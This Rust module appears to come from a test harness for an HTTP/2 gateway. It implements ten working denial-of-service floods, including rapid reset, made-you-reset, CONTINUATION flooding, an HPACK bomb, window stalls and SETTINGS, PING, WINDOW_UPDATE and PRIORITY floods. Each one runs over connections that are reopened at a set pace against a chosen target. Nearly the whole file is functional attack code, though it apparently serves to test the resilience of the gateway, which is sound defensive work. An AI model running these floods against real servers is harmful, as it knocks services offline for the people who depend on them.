//! Floods over HTTP/2: as many frames as the gateway takes, over one connection after another.

use std::{
    collections::BTreeMap,
    io::{ErrorKind, Read as _, Write as _},
    net::{SocketAddr, TcpStream},
    sync::atomic::{AtomicBool, Ordering},
    thread,
    time::{Duration, Instant},
};

use anyhow::Result;
use rustix::event::{PollFd, PollFlags, Timespec, poll};
use testkit::http2_frames::{
    END_HEADERS, END_STREAM, PREFACE, block, frame, kind, request, settings,
};

use super::{connect_from, frames::GoawayReader, target::as_attacker};

/// Most bytes of one write.
const CHUNK: usize = 64 * 1024;
/// Longest wait for the gateway.
const WAIT: Timespec = Timespec { tv_sec: 0, tv_nsec: 5_000_000 };
/// The type of PRIORITY.
const PRIORITY: u8 = 2;
/// Frames in a repeated part.
const REPEATS: usize = 1_000;

/// A kind of flood.
pub(super) struct Flood {
    pub(super) name: &'static str,
    /// Bytes that a connection sends once.
    first: Vec<u8>,
    /// Bytes that it then sends again and again; if empty, it stays open and silent.
    repeated: Vec<u8>,
}

/// How many connections at a time, and how fast.
#[derive(Clone, Copy)]
pub(super) struct Intensity {
    pub(super) connections: u8,
    pub(super) pace: Option<Pace>,
}

/// The bounds of a paced connection.
#[derive(Clone, Copy)]
pub(super) struct Pace {
    /// Bytes a second.
    pub(super) rate: usize,
    /// Least time between two opens.
    pub(super) reopen: Duration,
}

/// What a flood came to.
#[derive(Default)]
pub(super) struct Tally {
    pub(super) connections: u64,
    pub(super) bytes: u64,
    /// Connections by how they ended.
    pub(super) ends: BTreeMap<String, u64>,
}

impl Tally {
    pub(super) fn extend(&mut self, other: Self) {
        self.connections += other.connections;
        self.bytes += other.bytes;
        for (end, count) in other.ends {
            *self.ends.entry(end).or_default() += count;
        }
    }
}

/// All kinds.
pub(super) fn kinds() -> [Flood; 10] {
    let open =
        |pairs: &[(u16, u32)]| [PREFACE, &frame(kind::SETTINGS, 0, 0, &settings(pairs))].concat();
    let after = |name, mut first: Vec<u8>, then: Vec<u8>| {
        first.extend(then);
        Flood { name, first, repeated: Vec::new() }
    };
    let of =
        |name, bytes: Vec<u8>| Flood { name, first: open(&[]), repeated: bytes.repeat(REPEATS) };
    let get = |index: u32, path: &str| {
        let head = block(&request("GET", path));
        frame(kind::HEADERS, END_HEADERS | END_STREAM, 2 * index + 1, &head)
    };
    let each =
        |count, bytes: &dyn Fn(u32) -> Vec<u8>| (0..count).flat_map(bytes).collect::<Vec<_>>();
    let large = each(100, &|index| get(index, "/large"));
    let cancel = 8_u32.to_be_bytes();
    let resets = each(20_000, &|index| {
        [get(index, "/slow"), frame(kind::RST_STREAM, 0, 2 * index + 1, &cancel)].concat()
    });
    let provoked = each(5_000, &|index| {
        [get(index, "/slow"), frame(kind::WINDOW_UPDATE, 0, 2 * index + 1, &[0; 4])].concat()
    });
    let one = 1_u32.to_be_bytes();
    let mut windows = each(100, &|index| frame(kind::WINDOW_UPDATE, 0, 2 * index + 1, &one));
    windows.extend(frame(kind::WINDOW_UPDATE, 0, 0, &100_u32.to_be_bytes()));
    let head = frame(kind::HEADERS, 0, 1, &block(&request("POST", "/slow")));
    let field = block(&[("x", "y".repeat(1000))]);
    [
        after("rapid reset", open(&[]), resets),
        after("made-you-reset", open(&[]), provoked),
        Flood {
            name: "CONTINUATION",
            first: [open(&[]), head].concat(),
            repeated: frame(kind::CONTINUATION, 0, 1, &field).repeat(100),
        },
        of("SETTINGS", frame(kind::SETTINGS, 0, 0, &settings(&[(4, 1)]))),
        of("PING", frame(kind::PING, 0, 0, &[7; 8])),
        of("WINDOW_UPDATE", frame(kind::WINDOW_UPDATE, 0, 0, &one)),
        of("PRIORITY", frame(PRIORITY, 0, 1, &[0, 0, 0, 0, 1])),
        after("HPACK bomb", open(&[]), each(100, &bomb)),
        after("window stall", open(&[(4, 0)]), large.clone()),
        Flood {
            name: "one-byte windows",
            first: [open(&[(4, 1)]), large].concat(),
            repeated: windows,
        },
    ]
}

/// A head with thousands of references to a field of 3,900 bytes, which the first head puts into
/// the table.
fn bomb(index: u32) -> Vec<u8> {
    let mut head = block(&request("GET", "/slow"));
    if index == 0 {
        head.extend([0x40, 1, b'x', 0x7f, 0xbd, 0x1d]);
        head.extend([b'v'; 3900]);
    }
    head.resize(16_000, 0xbe);
    frame(kind::HEADERS, END_HEADERS | END_STREAM, 2 * index + 1, &head)
}

impl Flood {
    /// Attacks over one connection after another until `stop`.
    pub(super) fn run(
        &self,
        target: SocketAddr,
        pace: Option<Pace>,
        stop: &AtomicBool,
    ) -> Result<Tally> {
        as_attacker();
        let mut tally = Tally::default();
        while !stop.load(Ordering::Relaxed) {
            let opened = Instant::now();
            let (end, sent) = self.connection(target, pace, stop)?;
            tally.connections += 1;
            tally.bytes += sent as u64;
            *tally.ends.entry(end).or_default() += 1;
            if let Some(pace) = pace {
                thread::sleep(pace.reopen.saturating_sub(opened.elapsed()));
            }
        }
        Ok(tally)
    }

    /// One connection, until it ends. Returns how, and the bytes that were sent.
    fn connection(
        &self,
        target: SocketAddr,
        pace: Option<Pace>,
        stop: &AtomicBool,
    ) -> Result<(String, usize)> {
        let mut socket = connect_from(2, target, None)?;
        socket.set_nonblocking(true)?;
        let (start, mut sent, mut goaway) = (Instant::now(), 0, GoawayReader::default());
        let end = loop {
            if stop.load(Ordering::Relaxed) {
                break "open".to_owned();
            }
            let allowed = pace.map_or(usize::MAX, |pace| {
                // The paced bytes begin after those that open it.
                let bytes = start.elapsed().as_secs_f64() * pace.rate as f64;
                (bytes as usize + CHUNK / 8).saturating_sub(sent)
            });
            let bytes = self.at(sent);
            let bytes = &bytes[..bytes.len().min(allowed).min(CHUNK)];
            let written = socket.write(bytes);
            // A write may fail before the last frames are read.
            let end = receive(&mut socket, &mut goaway);
            if let Some(code) = goaway.code.filter(|code| *code != 0) {
                break format!("GOAWAY {code}");
            }
            if let Some(end) = end {
                break end.to_owned();
            }
            sent += written.as_ref().copied().unwrap_or_default();
            if bytes.is_empty() || written.is_err() {
                wait(&socket, !bytes.is_empty())?;
            }
        };
        Ok((end, sent))
    }

    /// What it sends after `sent` bytes; nothing if all was sent.
    fn at(&self, sent: usize) -> &[u8] {
        match sent.checked_sub(self.first.len()) {
            None => &self.first[sent..],
            Some(_) if self.repeated.is_empty() => &[],
            Some(later) => &self.repeated[later % self.repeated.len()..],
        }
    }
}

/// Reads what has arrived. Returns how the connection ended, if it did.
fn receive(socket: &mut TcpStream, goaway: &mut GoawayReader) -> Option<&'static str> {
    let mut chunk = [0; 16 * 1024];
    loop {
        match socket.read(&mut chunk) {
            Ok(0) => return Some("closed"),
            Ok(count) => goaway.read(&chunk[..count]),
            Err(error) if error.kind() == ErrorKind::WouldBlock => return None,
            Err(_) => return Some("reset"),
        }
    }
}

/// Waits until the socket is readable or, if it is to be, writable.
fn wait(socket: &TcpStream, for_write: bool) -> Result<()> {
    let flags = if for_write { PollFlags::IN | PollFlags::OUT } else { PollFlags::IN };
    poll(&mut [PollFd::new(socket, flags)], Some(&WAIT))?;
    Ok(())
}
